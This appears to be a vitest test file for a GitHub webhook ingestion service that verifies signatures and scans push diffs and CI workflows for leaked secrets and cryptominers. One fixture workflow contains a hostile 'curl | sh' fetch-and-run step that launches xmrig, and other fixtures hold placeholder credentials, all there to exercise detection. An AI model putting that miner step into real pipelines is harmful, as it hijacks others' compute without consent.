import { createHmac } from 'node:crypto';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { registerGithubRoutes, verifyGithubSignature } from './github.js';
import { counterValue, createIngestTestWorld, type IngestTestWorld } from './shared/testing.js';
import { listenLocal } from './shared/test-server.js';

const SECRET = 'It’s a webhook secret';
const API_TOKEN = 'ghp_test_api_token';
const BEFORE = '1111111111111111111111111111111111111111';
const AFTER = '2222222222222222222222222222222222222222';

const repository = {
  id: 1,
  full_name: 'acme/payments',
  html_url: 'https://github.com/acme/payments',
  private: false,
  owner: { login: 'acme' },
};

const pushPayload = {
  ref: 'refs/heads/main',
  before: BEFORE,
  after: AFTER,
  compare: `https://github.com/acme/payments/compare/${BEFORE.slice(0, 12)}...${AFTER.slice(0, 12)}`,
  repository,
  sender: { login: 'mallory' },
  head_commit: { id: AFTER },
  commits: [{ id: AFTER, added: ['config/prod.env'], modified: ['README.md'], removed: [] }],
};

/** A local server shaped like GitHub's REST API (compare and contents endpoints). */
async function githubApi(calls: { path: string; auth: string | undefined }[]) {
  return listenLocal(async (app) => {
    app.get('/repos/:owner/:repo/compare/:refs', async (req, reply) => {
      calls.push({ path: req.url, auth: req.headers.authorization });
      const { repo } = req.params as { repo: string };
      if (repo === 'broken') return reply.code(502).send({ message: 'Server Error' });
      return {
        status: 'ahead',
        files: [
          {
            filename: 'config/prod.env',
            status: 'added',
            patch:
              '@@ -0,0 +1,3 @@\n+DB_HOST=db.internal\n+AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n+REGION=eu-west-1',
          },
          {
            filename: 'README.md',
            status: 'modified',
            patch: '@@ -3,2 +3,2 @@\n-old words\n+new words\n unchanged',
          },
          { filename: 'logo.png', status: 'added' },
        ],
      };
    });
    app.get('/repos/:owner/:repo/commits/:sha', async (req) => {
      calls.push({ path: req.url, auth: req.headers.authorization });
      const { sha } = req.params as { sha: string };
      const patch =
        sha === 'c2'
          ? `@@ -1,2 +1,3 @@\n line one\n+token = "ghp_${'a1B2'.repeat(9)}"\n line two`
          : '@@ -0,0 +1 @@\n+hello';
      return { sha, files: [{ filename: `${sha}.txt`, status: 'modified', patch }] };
    });
    app.get('/repos/:owner/:repo/contents/*', async (req) => {
      calls.push({ path: req.url, auth: req.headers.authorization });
      const wf =
        'name: ci\non: push\njobs:\n  mine:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sL x | sh && ./xmrig --donate-level 1\n';
      return {
        type: 'file',
        encoding: 'base64',
        path: '.github/workflows/ci.yml',
        content: Buffer.from(wf).toString('base64'),
      };
    });
  });
}

describe('verifyGithubSignature', () => {
  it("accepts GitHub's documented test vector and refuses anything else", () => {
    const body = Buffer.from('Hello, World!');
    const secret = "It's a Secret to Everybody";
    const good = 'sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17';
    expect(() => verifyGithubSignature(body, secret, { sha256: good }, false)).not.toThrow();
    expect(() => verifyGithubSignature(body, secret, { sha256: good.replace('e17', 'e18') }, false)).toThrow(
      /does not match/,
    );
    expect(() => verifyGithubSignature(body, secret, { sha256: 'sha256=abc' }, false)).toThrow(
      /does not match/,
    );
    expect(() => verifyGithubSignature(body, secret, {}, false)).toThrow(/missing/);
    const sha1 = `sha1=${createHmac('sha1', secret).update(body).digest('hex')}`;
    expect(() => verifyGithubSignature(body, secret, { sha1 }, false)).toThrow(/missing/);
    expect(() => verifyGithubSignature(body, secret, { sha1 }, true)).not.toThrow();
  });
});

describe('GitHub webhooks over HTTP (real Postgres, GitHub-shaped API server)', () => {
  let world: IngestTestWorld;
  let server: { app: FastifyInstance; url: string };
  let api: { app: FastifyInstance; url: string };
  const apiCalls: { path: string; auth: string | undefined }[] = [];
  let sourceId: string;
  let noSecretId: string;

  beforeAll(async () => {
    // The fake GitHub API listens on loopback: allowed explicitly, as an operator would.
    world = await createIngestTestWorld('github', { COLLECTOR_OUTBOUND_ALLOW: '127.0.0.1/32' });
    api = await githubApi(apiCalls);
    sourceId = (
      await world.addSource('github', {
        config: { apiBaseUrl: api.url },
        secrets: { webhookSecret: SECRET, apiToken: API_TOKEN },
      })
    ).id;
    noSecretId = (await world.addSource('github', { config: { apiBaseUrl: api.url } })).id;
    server = await listenLocal((app) => registerGithubRoutes(app, world.deps, { bodyLimit: 256 * 1024 }));
  }, 60_000);
  afterAll(async () => {
    await server?.app.close();
    await api?.app.close();
    await world?.close();
  });

  const deliver = (
    event: string,
    delivery: string,
    payload: unknown,
    opts: {
      id?: string;
      secret?: string;
      contentType?: string;
      raw?: string;
      headers?: Record<string, string>;
    } = {},
  ) => {
    const body =
      opts.raw ??
      (opts.contentType === 'application/x-www-form-urlencoded'
        ? new URLSearchParams({ payload: JSON.stringify(payload) }).toString()
        : JSON.stringify(payload));
    const sig = createHmac('sha256', opts.secret ?? SECRET)
      .update(body)
      .digest('hex');
    return fetch(`${server.url}/ingest/github/${opts.id ?? sourceId}`, {
      method: 'POST',
      headers: {
        'content-type': opts.contentType ?? 'application/json',
        'user-agent': 'GitHub-Hookshot/abc123',
        'x-github-event': event,
        'x-github-delivery': delivery,
        'x-github-hook-id': '42',
        'x-hub-signature-256': `sha256=${sig}`,
        ...opts.headers,
      },
      body,
    });
  };

  const stored = (delivery: string) => {
    const e = world.pipeline.events.find((x) => x.event.ingestKey === delivery);
    return e?.event.event as { ts: string; payload: Record<string, unknown> } | undefined;
  };

  it('stores a signed ping keyed by its delivery id; a redelivery is a duplicate', async () => {
    const ping = {
      zen: 'Keep it logically awesome.',
      hook_id: 42,
      hook: { id: 42, type: 'Repository' },
      repository,
    };
    const res = await deliver('ping', 'd-ping-1', ping);
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ accepted: 1, duplicates: 0, rejected: 0 });
    const e = stored('d-ping-1');
    expect(e?.payload).toMatchObject({ webhook_type: 'ping', zen: 'Keep it logically awesome.' });
    expect(e?.ts).toMatch(/^\d{19}$/);
    expect(world.pipeline.events.find((x) => x.event.ingestKey === 'd-ping-1')?.storeRaw).toBe(true);
    expect(await (await deliver('ping', 'd-ping-1', ping)).json()).toEqual({
      accepted: 0,
      duplicates: 1,
      rejected: 0,
    });
  });

  it('scans a push diff through the compare API and adds files with secret matches', async () => {
    const res = await deliver('push', 'd-push-1', pushPayload);
    expect(res.status).toBe(200);
    const call = apiCalls.find((c) => c.path.includes('/compare/'));
    expect(call).toEqual({
      path: `/repos/acme/payments/compare/${BEFORE.slice(0, 12)}...${AFTER.slice(0, 12)}`,
      auth: `Bearer ${API_TOKEN}`,
    });
    expect(stored('d-push-1')?.payload.files).toEqual([
      {
        name: 'config/prod.env',
        matches: [{ line: 2, type: 'key', desc: 'aws_access_key', platform: 'AWS' }],
      },
      { name: 'README.md', matches: null },
      { name: 'logo.png', matches: null },
    ]);
  });

  it('reads each commit of a push that creates a branch (no before to compare with)', async () => {
    const res = await deliver('push', 'd-push-new-branch', {
      ...pushPayload,
      ref: 'refs/heads/feature',
      before: '0000000000000000000000000000000000000000',
      created: true,
      compare: 'https://github.com/acme/payments/compare/feature',
      commits: [{ id: 'c1' }, { id: 'c2' }],
    });
    expect(res.status).toBe(200);
    expect(
      apiCalls
        .filter((c) => c.path.includes('/commits/'))
        .map((c) => c.path)
        .sort(),
    ).toEqual(['/repos/acme/payments/commits/c1', '/repos/acme/payments/commits/c2']);
    expect(stored('d-push-new-branch')?.payload.files).toEqual([
      { name: 'c1.txt', matches: null },
      {
        name: 'c2.txt',
        matches: [{ line: 2, type: 'key', desc: 'github_personal_access_token', platform: 'Github' }],
      },
    ]);
  });

  it('accepts form-encoded deliveries (signature over the form body)', async () => {
    const res = await deliver(
      'push',
      'd-push-form',
      { ...pushPayload, after: '0000000000000000000000000000000000000000' },
      {
        contentType: 'application/x-www-form-urlencoded',
      },
    );
    expect(res.status).toBe(200);
    // A branch deletion has no diff to scan: no `files`, so github.diff.has_secrets stays absent.
    expect(stored('d-push-form')?.payload).not.toHaveProperty('files');
  });

  it('stores the push without files and records the error when the compare API fails', async () => {
    const res = await deliver('push', 'd-push-broken', {
      ...pushPayload,
      repository: { ...repository, full_name: 'acme/broken' },
    });
    expect(res.status).toBe(200);
    expect(stored('d-push-broken')?.payload).not.toHaveProperty('files');
    const row = await world.db.prisma.cloudSource.findUnique({ where: { id: sourceId } });
    expect(row?.lastError).toMatch(/enrichment of push d-push-broken: GitHub API .* HTTP 502/);
  });

  it('reads the workflow of a workflow_run and adds miner detections', async () => {
    const res = await deliver('workflow_run', 'd-wf-1', {
      action: 'requested',
      workflow: { path: '.github/workflows/ci.yml' },
      workflow_run: { head_sha: AFTER },
      repository,
    });
    expect(res.status).toBe(200);
    expect(
      apiCalls.some((c) => c.path === `/repos/acme/payments/contents/.github/workflows/ci.yml?ref=${AFTER}`),
    ).toBe(true);
    expect(stored('d-wf-1')?.payload.workflow_miner_detections).toEqual({
      name: '.github/workflows/ci.yml',
      matches: [{ line: 7, type: 'xmrig' }],
    });
  });

  it('answers bad deliveries with a clear JSON error and counts them', async () => {
    const cases: [Promise<Response>, number, string][] = [
      [deliver('ping', 'x1', {}, { secret: 'wrong' }), 401, 'UNAUTHENTICATED'],
      [deliver('ping', 'x2', {}, { headers: { 'x-hub-signature-256': '' } }), 401, 'UNAUTHENTICATED'],
      [deliver('ping', 'x3', {}, { id: noSecretId }), 401, 'UNAUTHENTICATED'],
      [deliver('ping', 'x4', {}, { id: '00000000-0000-4000-8000-000000000000' }), 404, 'UNKNOWN_SOURCE'],
      [deliver('ping', 'x5', {}, { raw: '{"zen":' }), 400, 'INVALID_JSON'],
      [deliver('ping', 'x6', {}, { raw: '[1,2]' }), 422, 'INVALID_SHAPE'],
      [deliver('ping', 'x7', {}, { contentType: 'text/plain' }), 415, 'UNSUPPORTED_ENCODING'],
      [
        deliver('ping', 'x8', {}, { raw: JSON.stringify({ big: 'x'.repeat(300_000) }) }),
        413,
        'BODY_TOO_LARGE',
      ],
      [deliver('ping', '', {}), 400, 'INVALID_BODY'],
    ];
    for (const [pending, status, code] of cases) {
      const res = await pending;
      expect({
        status: res.status,
        code: ((await res.json()) as { error: { code: string } }).error.code,
      }).toEqual({
        status,
        code,
      });
    }
    expect(await counterValue(world.deps, 'rejects', { source: 'github', reason: 'unauthenticated' })).toBe(
      3,
    );
    expect(world.pipeline.events.some((e) => e.event.ingestKey.startsWith('x'))).toBe(false);
    const row = await world.db.prisma.cloudSource.findUnique({ where: { id: noSecretId } });
    expect(row?.lastError).toMatch(/no webhook secret/);
  });
});
